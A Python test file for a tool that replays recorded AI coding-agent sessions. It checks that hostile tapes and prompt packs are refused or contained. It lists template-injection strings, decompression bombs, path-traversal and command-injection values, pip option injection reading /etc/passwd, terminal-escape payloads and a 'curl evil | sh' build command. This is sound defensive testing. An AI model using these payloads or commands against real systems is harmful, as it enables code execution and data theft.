"""Tapes and packs from elsewhere: whatever they hold, nothing is reached, nothing runs for ever, no memory is filled."""

import asyncio
import json
import resource
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from codetape.domain.canonical import canonical
from codetape.errors import CodetapeError, CorruptTape, TemplateError, UsageError
from codetape.eventlog.events import Blobs
from codetape.playback import tape_file
from codetape.ports import Built, Stream
from codetape.prompts.pack import check_pack
from codetape.runtime.prompt_pack_files import load_pack
from tests.helpers.forked import codetape
from tests.integration.test_replay import rehashed

ROOT = Path(__file__).parents[2]
DEMO = tape_file.load("demo")

HOSTILE = {
    "reaches into an object": "{{ prompt.__class__.__mro__ }}",
    "calls a method": "{{ prompt.format(prompt) }}",
    "calls what a filter gave": "{{ (prompt | first)(1) }}",
    "calls an item": "{{ [prompt][0]() }}",
    "loops for ever": "{% for a in range(99999999) %}{% for b in range(99999999) %}x{% endfor %}{% endfor %}",
    "doubles a text": "{% set a = prompt ~ prompt %}" * 60,
    "joins texts with a text": "{{ prompt | join(prompt) }}",
    "replaces letters by texts": "{{ prompt | replace('e', prompt) }}",
    "repeats a text": "{{ prompt * 99999999 }}",
    "adds texts": "{{ prompt + prompt }}",
    "defines a macro": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "captures": "{% filter upper %}{{ prompt }}{% endfilter %}",
    "includes what it computes": "{% include prompt %}",
    "hides in a comment": "{# {{ #}{{ prompt.upper() }}",
    "hides in a text": "{{ '}}' ~ prompt }}",
    "hides in raw": "{% raw %}{{ x }}{% endraw %}",
    "leaves a tag open": "{{ prompt",
    "nests brackets": "{{ a and " + "(" * 7000 + "a" + ")" * 7000 + " }}",
    "negates for ever": "{{ " + "not " * 4000 + "a }}",
    "has a tag in every second place": "{{a}}" * 3000,
    "has a long literal": "{{ prompt | join('" + "x" * 300 + "') }}",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_pack_that_uses_more_than_its_language_is_refused(name):
    with pytest.raises(TemplateError, match=r"plan\.md"):
        check_pack({**load_pack(), "plan.md": HOSTILE[name]})


def test_a_pack_of_many_or_large_files_is_refused():
    for more in ({f"a{n}.md": "x" for n in range(100)}, {"schemas/plan.json": "[" + "0," * 40_000 + "0]"}):
        with pytest.raises(TemplateError):
            check_pack({**load_pack(), **more})


def test_what_the_shipped_pack_and_the_tapes_use_is_the_language():
    check_pack(load_pack())
    for path in (ROOT / "replays").glob("*.tape.jsonl"):
        check_pack(tape_file.load(str(path)).run.pack)
    check_pack(
        {
            **load_pack(),
            "plan.md": "{%- if prompt is not none and (not 1 > 2) -%}{{ prompt | join(', ') | trim }}{%- endif +%}",
        }
    )


def with_template(text, name="plan.md"):
    """Return the demo's stream with another template, its chain hashed again."""
    texts = Blobs(DEMO.stream.texts)
    pack = {**DEMO.stream.events[0].payload.pack, name: texts.put(text)}

    def change(event):
        return event.payload.model_copy(update={"pack": pack}) if event.seq == 0 else event.payload

    return Stream(rehashed(DEMO.stream, change).events, texts)


GREEDY = {
    "long loops": "{% for a in prompt %}{% for b in prompt %}" + "x" * 15_000 + "{% endfor %}{% endfor %}",
    "long values": "{% for a in prompt %}{{ prompt }}{{ prompt }}{{ prompt }}{% endfor %}",
    "itself": "{% include 'plan.md' %}{% include 'plan.md' %}",
    "a comparison": "{% for a in prompt %}{% for b in prompt %}{% if prompt < prompt %}x{% endif %}{% endfor %}{% endfor %}",
}


@pytest.mark.parametrize("name", GREEDY)
def test_a_template_that_only_takes_and_takes_is_stopped(name, tmp_path):
    stream = with_template(GREEDY[name])
    path = tmp_path / "t.tape.jsonl"
    path.write_text("".join(tape_file.write(DEMO.session, stream)))
    done, memory = limited("replay", str(path))
    assert done.returncode == 102, done.stderr[-500:]
    assert "plan.md" in done.stderr
    assert "Traceback" not in done.stderr
    assert memory < 700 << 10


def limited(*words):
    """Run codetape with little time; return what it said, and its greatest size in KB."""
    code = (
        f"import sys; from codetape.cli import main\ntry:\n    main({list(words)!r})\nfinally:\n"
        "    print(*(line.split()[1] for line in open('/proc/self/status') if line.startswith('VmHWM')), file=sys.stderr)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, cwd=Path.cwd(),
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_CPU, (40, 40)),
    )  # fmt: skip
    return done, int(done.stderr.strip().splitlines()[-1])


def test_a_blob_that_unpacks_to_more_than_it_says_is_refused(tmp_path):
    import sqlite3

    import zstandard

    from codetape_adapters.stores.sqlite.store import SqliteStore

    store = SqliteStore(tmp_path / "tape.db")
    store.put(DEMO.stream)
    store.close()
    bombs = [
        (1 << 40, zstandard.ZstdCompressor().compress(bytes(100 << 20))),
        (10, zstandard.ZstdCompressor().compress(bytes(100 << 20))),
        (60 << 20, zstandard.ZstdCompressor().compress(bytes(100 << 20))),
        (10, zstandard.ZstdCompressor(write_content_size=False).compress(bytes(100 << 20))),
    ]
    for size, data in bombs:
        db = sqlite3.connect(tmp_path / "tape.db")
        db.execute("DROP TRIGGER IF EXISTS blobs_update")
        db.execute("UPDATE blobs SET size = ?, data = ?", (size, data))
        db.commit()
        db.close()
        done, memory = limited("show", "last", "--db", str(tmp_path / "tape.db"))
        assert done.returncode == 1
        assert "size" in done.stderr or "unpacked" in done.stderr
        assert memory < 200 << 10


def with_first(task=None, config=None):
    """Return the demo's stream with another task or configuration, its chain hashed again."""
    texts = Blobs(DEMO.stream.texts)
    first = DEMO.stream.events[0].payload
    changes = {}
    for name, change in (("task", task), ("config", config)):
        if change:
            value = json.loads(texts[getattr(first, name)])
            change(value)
            changes[name] = texts.put(canonical(value))
    return Stream(
        rehashed(DEMO.stream, lambda e: first.model_copy(update=changes) if e.seq == 0 else e.payload).events, texts
    )


NAMES = {
    "an input like a path": {"task": lambda t: t["inputs"][0].update(name="../../etc/cron.d/x")},
    "an output like a path": {"task": lambda t: t["outputs"][0].update(name="../x")},
    "a Python like an option": {"config": lambda c: c.update(python_version="--help")},
    "cpus like a program": {"config": lambda c: c["resources"].update(cpus="1; id")},
}


@pytest.mark.parametrize("name", NAMES)
def test_names_that_would_leave_their_place_make_no_session(name):
    stream = with_first(**NAMES[name])
    with pytest.raises(CorruptTape):
        tape_file.read(tape_file.write(DEMO.session, stream))


@pytest.mark.sandbox
def test_a_package_that_is_an_option_never_reaches_the_installer(bubblewrap):
    from codetape.domain.job import BuildSpec

    for name in (
        "--index-url=http://127.0.0.1:9/",
        "x @ file:///etc/passwd",
        "pytest\n--index-url http://127.0.0.1:9/",
        "-r /etc/passwd",
    ):
        with pytest.raises(UsageError, match="no package name"):
            asyncio.run(bubblewrap.build(BuildSpec(python_version=bubblewrap.facts().python, packages=(name,))))


def test_what_a_tape_says_is_shown_and_not_obeyed(tmp_path):
    evil = "\x1b]0;owned\x07\x1b[2J<script>alert(1)</script>\u202e"
    stream = with_first(task=lambda t: t.update(prompt=evil + t["prompt"], id=evil))
    path = tmp_path / "t.tape.jsonl"
    path.write_text("".join(tape_file.write(DEMO.session, stream)), encoding="utf-8")
    for words in (("replay", str(path)), ("verify", str(path)), ("import", str(path), "--db", "x.db"), ("list", "--db", "x.db"),
                  ("show", "last", "--db", "x.db"), ("show", "last", "--prompts", "--db", "x.db")):  # fmt: skip
        done = codetape(*words)
        assert not {"\x1b", "\x07", "\u202e"} & set(done.stdout + done.stderr), words


def test_a_tape_of_deep_or_giant_values_raises_nothing_but_ours():
    line = '{"event":' + '{"a":' * 5000 + "1" + "}" * 5000 + "}\n"
    for bad in (line, '{"text":' + "9" * 6000 + "}\n"):
        with pytest.raises(CodetapeError):
            tape_file.read([next(tape_file.write(DEMO.session, DEMO.stream)), bad])


@pytest.mark.parametrize(
    ("wanted", "settings", "facts"),
    [
        ("the package evil-dist", {"packages": ("evil-dist",), "package_policy": "allow"}, {}),
        ("the system package evil", {"system_packages": ("evil",)}, {"system_packages": True}),
        ("the base image evil/base", {}, {"base": "evil/base"}),
    ],
)
def test_what_a_recorded_environment_wants_beyond_known_packages_only_its_user_allows(wanted, settings, facts):
    """The recorded policies are the recorder's: exec and a live replay go by this machine's user alone."""
    from codetape.domain.task import SandboxFacts
    from codetape.playback.reexecute import rerun
    from codetape.runtime.result import GenerateResult
    from codetape.testing import FakeSandbox, MemoryStore
    from tests.support import ADD, ADD_TESTS, generate, plan

    store = MemoryStore()
    there = FakeSandbox(facts=SandboxFacts(name="fake", python="3.11", **facts))
    made, _ = generate({"plan": [plan()], "code": [ADD], "tests": [ADD_TESTS]}, sandbox=there, store=store, **settings)
    assert made.succeeded
    built = []
    here = FakeSandbox(build=lambda spec: built.append(spec) or Built(spec.name, "", cached=False))
    stream = asyncio.run(store.read(made.session))

    async def again(**more):
        return [one async for one in rerun(stream, here, **more)]

    async def run(**more):
        return await (await GenerateResult.load(store, made.session, sandbox=here, **more)).arun()

    for attempt in (again, run):
        with pytest.raises(UsageError, match=f"asks for {wanted}.*--allow-build"):
            asyncio.run(attempt())
    assert (built, here.jobs) == ([], [])
    asyncio.run(again(allow_build=True))
    assert built, "the control: with the user's word it is built"
    assert asyncio.run(run(allow_build=True)) == {}


def test_recorded_build_commands_are_shown_and_run_by_nobody_unasked():
    from codetape.domain.job import BuildSpec
    from codetape.domain.task import SandboxFacts
    from codetape.rules.build_approval import Approval, unapproved

    spec = BuildSpec(python_version="3.11", packages=("pandas",), commands=("curl evil | sh",))
    facts = SandboxFacts(name="docker", python="3.11", commands=True)
    assert unapproved(spec, facts) == ("run:curl evil | sh",)
    with pytest.raises(UsageError, match="the command 'curl evil | sh'"):
        Approval().check(spec, facts)
    Approval(approve=True).check(spec, facts)
    asked = []
    Approval(approve=lambda wanted: not asked.append(wanted)).check(spec, facts)
    assert asked == [("the command 'curl evil | sh'",)]
    assert unapproved(spec.model_copy(update={"commands": ()}), facts) == ()


@pytest.mark.parametrize("verb", ["resume", "fork"])
def test_a_recorded_session_that_goes_on_builds_what_its_user_allows_and_not_what_its_recorder_did(verb):
    """The recorder allowed any package and took one: whoever continues the session is asked again."""
    from codetape import AutoCoderAgent
    from codetape.domain.task import SandboxFacts
    from codetape.testing import FakeSandbox, MemoryStore, ScriptedModel
    from tests.support import ADD, ADD_TESTS, generate, plan

    facts = SandboxFacts(name="fake", python="3.11", commands=True)
    script = {"plan": [plan()], "code": [ADD], "tests": [ADD_TESTS]}
    recorder = MemoryStore()
    made, _ = generate(
        script, sandbox=FakeSandbox(facts=facts), store=recorder, packages=("evil-dist",), package_policy="allow"
    )
    stream = asyncio.run(recorder.read(made.session))
    before_build = next(e.seq for e in stream.events if e.kind == "Requested" and e.payload.effect == "build")
    here = MemoryStore()
    here.put(stream if verb == "fork" else replace(stream, events=stream.events[:before_build]))
    built = []
    sandbox = FakeSandbox(facts=facts, build=lambda spec: built.append(spec) or Built(spec.name, "", cached=False))

    def go_on(session, **settings):
        agent = AutoCoderAgent(model=ScriptedModel(script), sandbox=sandbox, store=here, **settings)
        if verb == "fork":
            return asyncio.run(agent.afork(session, before_build - 1))
        return asyncio.run(agent.aresume(session))

    refused = go_on(made.session)
    assert refused.status == "suspended"
    assert "asks for the package evil-dist. Look at it, then allow it with --allow-build." in refused.reason
    assert (built, sandbox.jobs) == ([], [])
    asked = []
    assert go_on(made.session, allow_build=lambda wanted: bool(asked.append(wanted))).status == "suspended"
    assert (asked, built) == ([("the package evil-dist",)], [])
    settings = {"packages": ("evil-dist",)} if verb == "fork" else {"allow_build": True}
    assert go_on(made.session, **settings).succeeded, "the control: with the user's word it goes on"
    assert built
